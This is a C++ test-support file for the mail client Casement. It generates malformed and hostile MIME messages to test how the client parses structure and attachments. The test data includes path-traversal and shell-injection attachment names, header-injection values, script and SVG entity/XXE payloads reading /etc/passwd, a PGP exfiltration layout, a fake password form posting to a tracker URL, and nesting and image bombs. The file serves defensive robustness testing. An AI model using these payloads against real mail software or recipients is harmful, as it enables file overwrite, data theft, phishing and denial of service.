// SPDX-FileCopyrightText: 2026 The Casement authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "tests/support/hostilemail.h"
#include "tests/support/hostileparts.h"

// Oddities of structure: multiparts, embedded mails, signatures, delivery reports, attachments and
// their names.

namespace casement::testing
{

namespace
{

struct StructureCase {
    const char *name;
    const char *type; ///< Content-Type as declared
    const char *body;
};

constexpr StructureCase structures[] = {
    {"type-garbage", "!!/;;= ;\"", "text"},
    {"type-no-subtype", "text", "text"},
    {"type-empty", " ", "text"},
    {"type-unknown", "x-strange/x-thing", "text"},
    {"type-upper-case", "TEXT/HTML; CHARSET=UTF-8", "<B>loud</B>"},
    {"type-text-unknown", "text/x-strange; charset=utf-8", "text of a strange kind"},
    {"type-enriched", "text/enriched", "<bold>Now</bold> <<is>> <param>x"},
    {"type-rtf", "text/rtf", "{\\rtf1\\ansi{\\object\\objdata 0105}\\'e4"},
    {"type-calendar", "text/calendar; method=REQUEST",
     "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY\r\nDTSTART:99999999T999999\r\nATTACH:"
     "http://tracker.invalid/ics\r\n"},
    {"type-vcard", "text/vcard",
     "BEGIN:VCARD\r\nPHOTO;VALUE=uri:http://tracker.invalid/vcard\r\nFN:\r\n"},
    {"type-message-text", "message/unknown", "not a message"},
    {"type-partial", "message/partial; id=\"x\"; number=999999999; total=1",
     "Subject: part\r\n\r\nrest"},
    {"type-external-body",
     "message/external-body; access-type=URL; URL=\"http://tracker.invalid/external\"",
     "Content-Type: image/png\r\n\r\n"},
    {"type-external-body-local",
     "message/external-body; access-type=local-file; name=\"/etc/passwd\"",
     "Content-Type: text/plain\r\n\r\n"},
    {"multipart-boundary-missing", "multipart/mixed", "--x\r\n\r\none\r\n--x--\r\n"},
    {"multipart-boundary-empty", "multipart/mixed; boundary=\"\"",
     "--\r\n\r\none\r\n--\r\n\r\ntwo\r\n----\r\n"},
    {"multipart-boundary-blank", "multipart/mixed; boundary=\" \"", "-- \r\n\r\none\r\n-- --\r\n"},
    {"multipart-boundary-unquoted-specials", "multipart/mixed; boundary=a=b/c:d?e",
     "--a=b/c:d?e\r\n\r\none\r\n--a=b/c:d?e--"},
    {"multipart-boundary-trailing-space", "multipart/mixed; boundary=\"x \"",
     "--x \r\n\r\none\r\n--x\r\n\r\ntwo\r\n--x --"},
    {"multipart-boundary-not-there", "multipart/mixed; boundary=\"elsewhere\"",
     "no part here\r\n--other\r\n\r\nx\r\n--other--\r\n"},
    {"multipart-never-closed", "multipart/mixed; boundary=\"x\"",
     "--x\r\nContent-Type: text/plain\r\n\r\none\r\n--x\r\nContent-Type: text/html\r\n\r\n<b>two"},
    {"multipart-closed-first", "multipart/mixed; boundary=\"x\"",
     "--x--\r\n--x\r\n\r\none\r\n--x--\r\n"},
    {"multipart-only-preamble", "multipart/mixed; boundary=\"x\"", "all of it is preamble"},
    {"multipart-text-in-epilogue", "multipart/mixed; boundary=\"x\"",
     "--x\r\n\r\none\r\n--x--\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"},
    {"multipart-empty", "multipart/mixed; boundary=\"x\"", "--x--\r\n"},
    {"multipart-no-body", "multipart/mixed; boundary=\"x\"", ""},
    {"multipart-parts-without-headers", "multipart/mixed; boundary=\"x\"",
     "--x\r\nthere is no blank line\r\n--x\r\n\r\n--x\r\n--x\r\n--x--"},
    {"multipart-parts-only-headers", "multipart/mixed; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n--x\r\nContent-Type: image/png\r\n--x--"},
    {"multipart-boundary-prefix", "multipart/mixed; boundary=\"a\"",
     "--a\r\nContent-Type: multipart/alternative; "
     "boundary=\"ab\"\r\n\r\n--ab\r\n\r\none\r\n--ab\r\nContent-Type: "
     "text/html\r\n\r\n<b>two</b>\r\n--ab--\r\n--a--"},
    {"multipart-boundary-same-inside", "multipart/mixed; boundary=\"x\"",
     "--x\r\nContent-Type: multipart/mixed; "
     "boundary=\"x\"\r\n\r\n--x\r\n\r\none\r\n--x--\r\n--x--"},
    {"multipart-boundary-in-text", "multipart/mixed; boundary=\"x\"",
     "--x\r\n\r\nbefore --x and\r\n --x\r\n--xylophone\r\n--x--y\r\n--x--"},
    {"multipart-two-boundaries", "multipart/mixed; boundary=x; boundary=y",
     "--x\r\n\r\none\r\n--y\r\n\r\ntwo\r\n--y--\r\n--x--"},
    {"multipart-declared-base64",
     "multipart/mixed; boundary=\"x\"\r\nContent-Transfer-Encoding: base64",
     "LS14DQoNCm9uZQ0KLS14LS0NCg=="},
    {"multipart-lf-inside", "multipart/mixed; boundary=\"x\"",
     "--x\n\none\n--x\r\n\r\ntwo\r--x\r\rthree\n--x--"},
    {"multipart-unknown-kind", "multipart/x-strange; boundary=\"x\"", "--x\r\n\r\none\r\n--x--"},
    {"multipart-digest", "multipart/digest; boundary=\"x\"",
     "--x\r\n\r\nFrom: a@example.org\r\nSubject: in a digest\r\n\r\none\r\n--x\r\n\r\nno "
     "mail\r\n--x--"},
    {"multipart-parallel", "multipart/parallel; boundary=\"x\"",
     "--x\r\nContent-Type: audio/x-y\r\n\r\n\r\n--x--"},
    {"alternative-empty", "multipart/alternative; boundary=\"x\"", "--x--"},
    {"alternative-only-html", "multipart/alternative; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n\r\n<p>only me</p>\r\n--x--"},
    {"alternative-html-first", "multipart/alternative; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n\r\n<p>rich</p>\r\n--x\r\nContent-Type: "
     "text/plain\r\n\r\nplain\r\n--x--"},
    {"alternative-they-differ", "multipart/alternative; boundary=\"x\"",
     "--x\r\n\r\nYes, we agree.\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>No, we never "
     "agreed.</p>\r\n--x--"},
    {"alternative-plain-is-blank", "multipart/alternative; boundary=\"x\"",
     "--x\r\n\r\n \r\n--x\r\nContent-Type: text/html\r\n\r\n<p>all is here</p>\r\n--x--"},
    {"alternative-three-html", "multipart/alternative; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n\r\n<p>1\r\n--x\r\nContent-Type: "
     "text/html\r\n\r\n<p>2\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>3\r\n--x--"},
    {"alternative-with-mixed-inside", "multipart/alternative; boundary=\"x\"",
     "--x\r\n\r\nplain\r\n--x\r\nContent-Type: multipart/mixed; "
     "boundary=\"y\"\r\n\r\n--y\r\nContent-Type: text/html\r\n\r\n<p>rich\r\n--y\r\nContent-Type: "
     "application/pdf; name=a.pdf\r\n\r\n%PDF\r\n--y--\r\n--x--"},
    {"alternative-unknown-last", "multipart/alternative; boundary=\"x\"",
     "--x\r\n\r\nplain\r\n--x\r\nContent-Type: text/x-amp-html\r\n\r\n<html amp4email><amp-img "
     "src=http://tracker.invalid/amp>\r\n--x--"},
    {"related-missing-root",
     "multipart/related; start=\"<none>\"; type=\"text/html\"; boundary=\"x\"",
     "--x\r\nContent-Type: image/png\r\nContent-ID: <i>\r\n\r\nx\r\n--x--"},
    {"related-cid-of-itself", "multipart/related; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\nContent-ID: <self>\r\n\r\n<iframe "
     "src=cid:self></iframe><img src=cid:self>\r\n--x--"},
    {"related-cid-twice", "multipart/related; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n\r\n<img src=cid:a>\r\n--x\r\nContent-Type: "
     "image/png\r\nContent-ID: <a>\r\n\r\nx\r\n--x\r\nContent-Type: text/html\r\nContent-ID: "
     "<a>\r\n\r\n<script>alert(1)</script>\r\n--x--"},
    {"related-content-location", "multipart/related; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\nContent-Base: http://tracker.invalid/\r\n\r\n<img "
     "src=local.png>\r\n--x\r\nContent-Type: image/png\r\nContent-Location: "
     "http://tracker.invalid/local.png\r\n\r\nx\r\n--x--"},
    {"pgp-inline", "text/plain",
     "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA1\r\n\r\n- -----BEGIN\r\ntext\r\n-----BEGIN "
     "PGP SIGNATURE-----\r\n\r\nAAAA\r\n"},
    {"pgp-inline-encrypted", "text/plain",
     "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA////\r\n=AAAA\r\n-----END PGP MESSAGE-----\r\n"},
    {"pgp-mime-encrypted",
     "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"x\"",
     "--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: "
     "application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--x--"},
    {"pgp-mime-one-part",
     "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"x\"",
     "--x\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--x--"},
    {"pgp-mime-exfiltration", "multipart/mixed; boundary=\"x\"",
     "--x\r\nContent-Type: text/html\r\n\r\n<img "
     "src=\"http://tracker.invalid/\r\n--x\r\nContent-Type: multipart/encrypted; "
     "protocol=\"application/pgp-encrypted\"; "
     "boundary=y\r\n\r\n--y\r\n\r\n--y--\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--"},
    {"signed-without-signature", "multipart/signed; micalg=none; protocol=\"x/y\"; boundary=\"x\"",
     "--x\r\n\r\nsigned?\r\n--x--"},
    {"signed-smime", "multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"x\"",
     "--x\r\n\r\nsigned\r\n--x\r\nContent-Type: application/pkcs7-signature; "
     "name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIBAAAA\r\n--x--"},
    {"smime-enveloped",
     "application/pkcs7-mime; smime-type=enveloped-data; "
     "name=smime.p7m\r\nContent-Transfer-Encoding: base64",
     "MIAGCSqGSIb3DQEHA6CAMIACAQAx////"},
    {"smime-opaque-signed",
     "application/x-pkcs7-mime; smime-type=signed-data; "
     "name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64",
     "MIAGCSqGSIb3DQEHAqCAMIAC"},
    {"winmail-dat",
     "application/ms-tnef; name=\"winmail.dat\"\r\nContent-Transfer-Encoding: base64",
     "eJ8+IgEAAQaQCAD/////AQACAAAAAAAAAAAA/////w=="},
    {"report-no-fields", "multipart/report; report-type=delivery-status; boundary=\"x\"",
     "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\n\r\n--x--"},
    {"report-garbage-fields", "multipart/report; report-type=delivery-status; boundary=\"x\"",
     "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\nAction\r\n: "
     "x\r\nStatus: 9.9.9.9.9\r\n\r\nFinal-Recipient: \xff;<>\r\nAction: "
     "exploded\r\n\r\n\r\n\r\n--x--"},
    {"report-html-reason", "multipart/report; report-type=delivery-status; boundary=\"x\"",
     "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; "
     "x\r\n\r\nFinal-Recipient: rfc822; <img src=http://tracker.invalid/dsn>\r\nAction: "
     "failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 <script>alert(1)</script> "
     "\xe2\x80\xae\r\n--x\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: "
     "<not-ours@example.org>\r\n--x--"},
    {"report-forged-for-us", "multipart/report; report-type=delivery-status; boundary=\"x\"",
     "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; "
     "x\r\n\r\nFinal-Recipient: rfc822; ann@example.org\r\nAction: failed\r\nStatus: "
     "5.0.0\r\n--x\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: "
     "<guessed.id@casement.invalid>\r\nFrom: team@casement.invalid\r\n\r\nx\r\n--x--"},
    {"report-only-text", "multipart/report; report-type=delivery-status; boundary=\"x\"",
     "--x\r\n\r\nHi. This is the qmail-send program.\r\n<ann@example.org>:\r\nSorry, no "
     "mailbox.\r\n--x--"},
    {"report-type-missing", "multipart/report; boundary=\"x\"",
     "--x\r\n\r\nx\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\n--x--"},
    {"report-not-multipart", "message/delivery-status",
     "Reporting-MTA: dns; x\r\n\r\nAction: failed\r\nFinal-Recipient: rfc822; a@example.org\r\n"},
    {"report-disposition", "multipart/report; report-type=disposition-notification; boundary=\"x\"",
     "--x\r\n\r\nread\r\n--x\r\nContent-Type: message/disposition-notification\r\n\r\nDisposition: "
     "manual-action/MDN-sent-manually; displayed\r\nOriginal-Message-ID: <>\r\n--x--"},
    {"report-feedback", "multipart/report; report-type=feedback-report; boundary=\"x\"",
     "--x\r\n\r\nabuse\r\n--x\r\nContent-Type: message/feedback-report\r\n\r\nFeedback-Type: "
     "\r\nVersion: -1\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n--x--"},
    {"rfc822-empty", "message/rfc822", ""},
    {"rfc822-no-headers", "message/rfc822", "\r\n\r\njust text"},
    {"rfc822-base64", "message/rfc822\r\nContent-Transfer-Encoding: base64",
     "RnJvbTogYUBleGFtcGxlLm9yZw0KU3ViamVjdDogaW5zaWRlDQoNCnRleHQ="},
    {"rfc822-forged-inside", "message/rfc822",
     "From: team@casement.invalid\r\nSubject: We promised\r\nMessage-ID: "
     "<hostile-1@example.org>\r\n\r\nWe owe them everything."},
};

struct NameCase {
    const char *name;
    const char *disposition; ///< the header lines of the part, which name the file
};

constexpr NameCase fileNames[] = {
    {"file-dot-dot", "Content-Disposition: attachment; filename=\"../../etc/passwd\""},
    {"file-dot-dot-encoded",
     "Content-Disposition: attachment; filename=\"..%2f..%2fetc%2fpasswd\""},
    {"file-dot-dot-backslash",
     "Content-Disposition: attachment; filename=\"..\\\\..\\\\windows\\\\win.ini\""},
    {"file-absolute", "Content-Disposition: attachment; filename=\"/etc/cron.d/x\""},
    {"file-drive", "Content-Disposition: attachment; filename=\"C:\\\\x\""},
    {"file-unc",
     "Content-Disposition: attachment; filename=\"\\\\\\\\tracker.invalid\\\\share\\\\x\""},
    {"file-home", "Content-Disposition: attachment; filename=\"~/.bashrc\""},
    {"file-device", "Content-Disposition: attachment; filename=\"con.txt\""},
    {"file-device-nul", "Content-Disposition: attachment; filename=\"NUL\""},
    {"file-stream", "Content-Disposition: attachment; filename=\"a.txt::$DATA\""},
    {"file-dot", "Content-Disposition: attachment; filename=\".\""},
    {"file-dots", "Content-Disposition: attachment; filename=\"..\""},
    {"file-empty", "Content-Disposition: attachment; filename=\"\""},
    {"file-blank", "Content-Disposition: attachment; filename=\"   \""},
    {"file-hidden", "Content-Disposition: attachment; filename=\".htaccess\""},
    {"file-desktop-entry",
     "Content-Type: application/x-desktop; name=\"Photo.png.desktop\"\r\nContent-Disposition: "
     "attachment; filename=\"Photo.png.desktop\""},
    {"file-option", "Content-Disposition: attachment; filename=\"-rf *\""},
    {"file-shell", "Content-Disposition: attachment; filename=\"$(touch x)`touch y`;touch z|&\""},
    {"file-trailing-dot", "Content-Disposition: attachment; filename=\"x.exe. . .\""},
    {"file-rtl-override", "Content-Disposition: attachment; filename=\"photo\xe2\x80\xaegnp.exe\""},
    {"file-markup",
     "Content-Disposition: attachment; filename=\"<img src=http://tracker.invalid/file>.png\""},
    {"file-newline-encoded",
     "Content-Disposition: attachment; filename=\"=?utf-8?Q?a=0D=0Ab=00c?=\""},
    {"file-encoded-slash",
     "Content-Disposition: attachment; filename=\"=?utf-8?Q?=2E=2E=2F=2E=2E=2Fx?=\""},
    {"file-invalid-utf8", "Content-Disposition: attachment; filename=\"a\xff\xc3\x28.txt\""},
    {"file-emoji", "Content-Disposition: attachment; "
                   "filename=\"\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7.png\""},
    {"file-controls", "Content-Disposition: attachment; filename=\"a\x1b[2Jb\x07.txt\""},
    {"file-unterminated-quote", "Content-Disposition: attachment; filename=\"never closed"},
    {"file-two-names", "Content-Type: image/png; name=\"a.png\"\r\nContent-Disposition: "
                       "attachment; filename=\"b.exe\""},
    {"file-type-lies",
     "Content-Type: image/png; name=\"a.png\"\r\nContent-Disposition: inline; filename=\"a.html\""},
    {"file-disposition-garbage", "Content-Disposition: ;;;=;\xff"},
    {"file-disposition-unknown", "Content-Disposition: run; filename=setup.exe"},
    {"rfc2231-good-but-odd",
     "Content-Disposition: attachment; filename*0*=utf-8'de'%C3; filename*1*=%A4; filename*2=.txt"},
    {"rfc2231-missing-segment", "Content-Disposition: attachment; filename*0=a; filename*2=c"},
    {"rfc2231-wrong-order",
     "Content-Disposition: attachment; filename*2=c; filename*0=a; filename*1=b"},
    {"rfc2231-no-zero", "Content-Disposition: attachment; filename*1=a; filename*2=b"},
    {"rfc2231-duplicate",
     "Content-Disposition: attachment; filename*0=a; filename*0=b; filename*=utf-8''c; filename=d"},
    {"rfc2231-negative-index",
     "Content-Disposition: attachment; filename*-1=a; filename*99999999999999999999=b"},
    {"rfc2231-unknown-charset", "Content-Disposition: attachment; filename*=x-none'xx'%ff%fe%00"},
    {"rfc2231-no-quotes", "Content-Disposition: attachment; filename*=utf-8%C3%A4; filename*0*='"},
    {"rfc2231-percent-broken", "Content-Disposition: attachment; filename*=utf-8''%C3%ZZ%4%%"},
    {"rfc2231-path", "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd"},
    {"rfc2231-nul", "Content-Disposition: attachment; filename*=utf-8''safe.txt%00.exe"},
    {"rfc2231-newline",
     "Content-Disposition: attachment; filename*=utf-8''a%0D%0AX-Injected:%20yes"},
};

void addBody(QList<Oddity> &oddities, const char *name,
             std::function<void(MailDraft &, Random &)> apply, bool isHeavy = false)
{
    oddities.append(
        {.name = name, .place = OddityPlace::Body, .apply = std::move(apply), .isHeavy = isHeavy});
}

/// \a depth multiparts inside each other around one text.
QByteArray nestedMultiparts(int depth, bool isClosed)
{
    QByteArray body;
    for (int level = 1; level < depth; ++level) {
        const QByteArray outer = QByteArray::number(level);
        body += "--n" + outer + "\r\nContent-Type: multipart/mixed; boundary=\"n" +
                QByteArray::number(level + 1) + "\"\r\n\r\n";
    }
    body += "--n" + QByteArray::number(depth) + "\r\n\r\nthe innermost text\r\n";
    for (int level = depth; isClosed && level > 0; --level)
        body += "--n" + QByteArray::number(level) + "--\r\n";
    return body;
}

} // namespace

void addMimeOddities(QList<Oddity> &oddities)
{
    for (const StructureCase &one : structures) {
        addBody(oddities, one.name,
                [one](MailDraft &draft, Random &) { draft.setContent(one.type, one.body); });
    }
    addBody(oddities, "multipart-500-deep", [](MailDraft &draft, Random &) {
        draft.setContent("multipart/mixed; boundary=\"n1\"", nestedMultiparts(500, true));
    });
    addBody(oddities, "multipart-500-deep-open", [](MailDraft &draft, Random &) {
        draft.setContent("multipart/mixed; boundary=\"n1\"", nestedMultiparts(500, false));
    });
    addBody(
        oddities, "multipart-10000-deep",
        [](MailDraft &draft, Random &) {
            draft.setContent("multipart/mixed; boundary=\"n1\"", nestedMultiparts(10000, true));
        },
        true);
    addBody(
        oddities, "multipart-10000-parts",
        [](MailDraft &draft, Random &) {
            QByteArray body;
            for (int i = 0; i < 10000; ++i)
                body +=
                    "--x\r\nContent-Type: text/plain\r\n\r\npart " + QByteArray::number(i) + "\r\n";
            draft.setContent("multipart/mixed; boundary=\"x\"", body + "--x--\r\n");
        },
        true);
    addBody(
        oddities, "multipart-10000-attachments",
        [](MailDraft &draft, Random &) {
            QByteArray body;
            for (int i = 0; i < 10000; ++i)
                body += "--x\r\nContent-Disposition: attachment; filename=same.bin\r\n\r\nx\r\n";
            draft.setContent("multipart/mixed; boundary=\"x\"", body + "--x--\r\n");
        },
        true);
    addBody(oddities, "multipart-100k-delimiters", [](MailDraft &draft, Random &) {
        draft.setContent("multipart/mixed; boundary=\"x\"", times(100000, "--x\r\n"));
    });
    addBody(oddities, "multipart-boundary-1000", [](MailDraft &draft, Random &) {
        const QByteArray boundary = times(1000, "b");
        draft.setContent("multipart/mixed; boundary=\"" + boundary + "\"",
                         "--" + boundary + "\r\n\r\none\r\n--" + boundary + "--\r\n");
    });
    addBody(oddities, "type-10000-parameters", [](MailDraft &draft, Random &) {
        QByteArray type = "text/plain";
        for (int i = 0; i < 10000; ++i)
            type += ";\r\n p" + QByteArray::number(i) + "=v";
        draft.setContent(type, "text");
    });
    addBody(oddities, "rfc822-100-deep", [](MailDraft &draft, Random &) {
        draft.setContent("message/rfc822",
                         times(100, "Subject: deeper\r\nContent-Type: message/rfc822\r\n\r\n") +
                             "\r\nbottom");
    });
    addBody(oddities, "rfc822-and-multipart-200-deep", [](MailDraft &draft, Random &) {
        QByteArray body;
        for (int i = 0; i < 200; ++i) {
            const QByteArray mark = "m" + QByteArray::number(i);
            body += "Content-Type: multipart/mixed; boundary=" + mark + "\r\n\r\n--" + mark +
                    "\r\nContent-Type: message/rfc822\r\n\r\n";
        }
        draft.setContent("message/rfc822", body);
    });
    addBody(oddities, "report-10000-recipients", [](MailDraft &draft, Random &) {
        QByteArray body =
            "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\n";
        for (int i = 0; i < 10000; ++i)
            body += "Final-Recipient: rfc822; p" + QByteArray::number(i) +
                    "@example.org\r\nAction: failed\r\n\r\n";
        draft.setContent("multipart/report; report-type=delivery-status; boundary=\"x\"",
                         body + "--x--\r\n");
    });
}

void addAttachmentOddities(QList<Oddity> &oddities)
{
    for (const NameCase &one : fileNames) {
        addBody(oddities, one.name,
                [one](MailDraft &draft, Random &) { draft.attach(one.disposition, "content"); });
    }
    addBody(oddities, "file-nul", [](MailDraft &draft, Random &) {
        draft.attach("Content-Disposition: attachment; filename=\"a.txt" + QByteArray(1, '\0') +
                         ".exe\"",
                     "x");
    });
    addBody(oddities, "file-name-5000", [](MailDraft &draft, Random &) {
        draft.attach("Content-Disposition: attachment; filename=\"" + times(5000, "n") + ".txt\"",
                     "x");
    });
    addBody(oddities, "file-name-255-wide", [](MailDraft &draft, Random &) {
        draft.attach("Content-Disposition: attachment; filename=\"" + times(255, "\xe6\xbc\xa2") +
                         ".txt\"",
                     "x");
    });
    addBody(oddities, "rfc2231-10000-segments", [](MailDraft &draft, Random &) {
        QByteArray header = "Content-Disposition: attachment";
        for (int i = 0; i < 10000; ++i)
            header += ";\r\n filename*" + QByteArray::number(i) + "*=%41";
        draft.attach(header, "x");
    });
    addBody(
        oddities, "attachment-5mib",
        [](MailDraft &draft, Random &random) {
            draft.attach(
                "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                "Content-Disposition: attachment; filename=big.bin",
                base64Lines(junk(random, 5 << 20)));
        },
        true);
    addBody(oddities, "attachment-image-bomb", [](MailDraft &draft, Random &) {
        // A PNG of 100,000 x 100,000 pixels in its header, and no picture behind it.
        const QByteArray png(
            "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x01\x86\xa0\0\x01\x86\xa0\x08\x06\0\0\0\0\0\0\0", 33);
        draft.attach(
            "Content-Type: image/png; name=bomb.png\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-ID: <bomb>\r\nContent-Disposition: inline; filename=bomb.png",
            base64Lines(png));
    });
    addBody(oddities, "attachment-image-truncated", [](MailDraft &draft, Random &) {
        draft.attach("Content-Type: image/gif\r\nContent-Disposition: inline",
                     "GIF89a\xff\xff\xff\xff\xf7");
    });
    addBody(oddities, "attachment-svg-script", [](MailDraft &draft, Random &) {
        draft.attach(
            "Content-Type: image/svg+xml; name=x.svg\r\nContent-Disposition: inline; "
            "filename=x.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script><image href=\"" +
                trackerUrl("svg") + "\"/></svg>");
    });
    addBody(oddities, "attachment-svg-entities", [](MailDraft &draft, Random &) {
        draft.attach("Content-Type: image/svg+xml\r\nContent-Disposition: inline",
                     "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
                     "\"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c "
                     "\"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e SYSTEM "
                     "\"file:///etc/passwd\">]><svg>&c;&e;</svg>");
    });
    addBody(oddities, "attachment-html", [](MailDraft &draft, Random &) {
        draft.attach("Content-Type: text/html; name=login.html\r\nContent-Disposition: attachment; "
                     "filename=login.html",
                     "<form action=\"" + trackerUrl("form") + "\"><input type=password></form>");
    });
    addBody(oddities, "attachment-without-content", [](MailDraft &draft, Random &) {
        draft.attach(
            "Content-Type: application/pdf; name=empty.pdf\r\nContent-Disposition: attachment", {});
    });
    addBody(oddities, "attachment-size-lies", [](MailDraft &draft, Random &) {
        draft.attach("Content-Disposition: attachment; filename=a; size=99999999999999999999; "
                     "modification-date=\"never\"",
                     "x");
    });
}

} // namespace casement::testing
